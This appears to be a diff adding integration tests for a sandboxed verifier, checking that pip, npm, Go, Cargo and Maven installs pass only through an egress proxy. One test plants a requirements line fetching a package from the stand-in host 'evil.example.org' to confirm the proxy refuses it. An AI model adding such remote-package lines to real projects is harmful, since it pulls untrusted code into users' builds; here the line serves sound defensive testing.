@@ -1,0 +1,105 @@
+"""Install from this machine's registries by the clients themselves, through the proxy and through nothing else."""
+
+import os
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from integration.egress.test_way_out import run, spec
+from integration.verification.projects import BASE, HEAD, Project, exporter
+from services.registries import MachinePackages
+from tamma_core.domain.task import SetupNetwork
+from tamma_core.domain.verification import VerificationReport
+from tamma_core.ports.sandbox import Mount
+from tamma_core.sandbox.bubblewrap import Bubblewrap
+from tamma_core.sandbox.toolchains import toolchain_mounts, toolchain_path
+from tamma_core.system import SystemClock
+from tamma_core.verification.network import NetworkUse
+from tamma_core.verification.place import Toolchain, trusted
+from tamma_core.verification.runner import Verifier
+from tamma_core.verification.settings import VerificationSettings
+
+pytestmark = [pytest.mark.timeout(400), pytest.mark.enable_socket]
+PYTHON = {
+    "requirements.txt": "six==1.17.0\n",
+    "test_it.py": "import six\n\ndef test_it():\n    assert six.PY3\n",
+}
+NODE = {
+    "package.json": '{"name": "it", "version": "1.0.0", "scripts": {"test": "node --test"}, "dependencies": {"ms": "2.1.3"}}',
+    "it.test.js": "const test = require('node:test'); const ms = require('ms');\ntest('it', () => { if (ms('1s') !== 1000) throw 1; });\n",
+}
+GO = {
+    "go.mod": "module example.com/it\n\ngo 1.21\n\nrequire github.com/google/uuid v1.6.0\n",
+    "go.sum": "github.com/google/uuid v1.6.0 h1:NIvaJDMOsjHA8n1jAhLSgzrAzy1Hgr+hNrb57e+94F0=\n"
+    "github.com/google/uuid v1.6.0/go.mod h1:TIyPZe4MgqvfeYDBFedMoGGpEw/LqOeaOT+nhxU+yHo=\n",
+    "it_test.go": 'package it\n\nimport (\n\t"testing"\n\n\t"github.com/google/uuid"\n)\n\nfunc TestIt(t *testing.T) {\n\tif uuid.NewString() == "" {\n\t\tt.Fatal("empty")\n\t}\n}\n',
+}
+
+
+async def verified(tmp_path: Path, files: dict[str, str]) -> tuple[VerificationReport, tuple[NetworkUse, ...]]:
+    """Verify a change that changes nothing."""
+    toolchain = Toolchain(mounts=toolchain_mounts(os.environ), path=toolchain_path(os.environ))
+    verifier = Verifier(
+        Bubblewrap(), exporter(tmp_path / "commits"), tmp_path / "cache", SystemClock(), toolchain, MachinePackages()
+    )
+    project = Project(tmp_path / "commits", verifier)
+    project.commit(BASE, files)
+    project.commit(HEAD, files)
+    report = await verifier.verify(BASE, HEAD, VerificationSettings(setup_network=SetupNetwork.PROXY))
+    return report, verifier.take_used()
+
+
+@pytest.mark.parametrize("files", [PYTHON, NODE, GO], ids=["pip", "npm", "go"])
+async def test_the_set_up_installs_through_the_proxy(tmp_path: Path, files: dict[str, str]) -> None:
+    """The tests run with dependencies that came through the proxy, and every host that served them is told."""
+    report, used = await verified(tmp_path, files)
+    assert (report.problem, report.tests_run) == ("", 1)
+    assert report.green
+    assert used[0].network is SetupNetwork.PROXY
+    assert sum(host.received_bytes for host in used[0].traffic.passed) > 1000
+    assert not used[0].traffic.refused
+
+
+async def test_a_set_up_that_wants_more_is_told_what_was_refused(tmp_path: Path) -> None:
+    """A dependency from elsewhere fails, and the report says at which host."""
+    files = {**PYTHON, "requirements.txt": "evil @ https://evil.example.org/evil-1.0-py3-none-any.whl\n"}
+    report, used = await verified(tmp_path, files)
+    assert "evil.example.org:443 is not on the list of package hosts" in report.problem
+    assert used[0].traffic.refused[0].target == "evil.example.org:443"
+
+
+CARGO = '[package]\nname = "it"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\nitoa = "=1.0.15"\n'
+MAVEN = (
+    "<project><modelVersion>4.0.0</modelVersion><groupId>it</groupId><artifactId>it</artifactId><version>1</version>"
+    "<packaging>pom</packaging></project>"
+)
+
+
+async def test_cargo_fetches_through_the_proxy(tmp_path: Path) -> None:
+    """Cargo finds the proxy by its environment."""
+    (tmp_path / "src").mkdir()
+    (tmp_path / "src" / "lib.rs").write_text("")
+    (tmp_path / "Cargo.toml").write_text(CARGO)
+    async with MachinePackages().open() as way:
+        text, ended = await run(Bubblewrap(), way.through(spec(tmp_path, "cargo", "fetch", environment=trusted())))
+    assert ended.exit_code == 0, text
+    assert way.traffic().passed
+
+
+async def test_maven_fetches_through_the_proxy(tmp_path: Path) -> None:
+    """Maven, which reads no variable of its own for it, finds the proxy by its virtual machine's."""
+    (tmp_path / "pom.xml").write_text(MAVEN)
+    command = (
+        "mvn",
+        "-B",
+        "-q",
+        f"-Dmaven.repo.local={tmp_path}/m2",
+        "org.apache.maven.plugins:maven-clean-plugin:3.4.0:clean",
+    )
+    asked = spec(tmp_path, *command, environment=trusted())
+    # Debian's Maven is put together by links into /etc, which the sandbox does not show.
+    own = tuple(Mount(place, str(place)) for place in [Path("/etc/maven")] if place.is_dir())
+    async with MachinePackages().open() as way:
+        text, ended = await run(Bubblewrap(), way.through(replace(asked, mounts=(*asked.mounts, *own))))
+    assert ended.exit_code == 0, text
+    assert way.traffic().passed
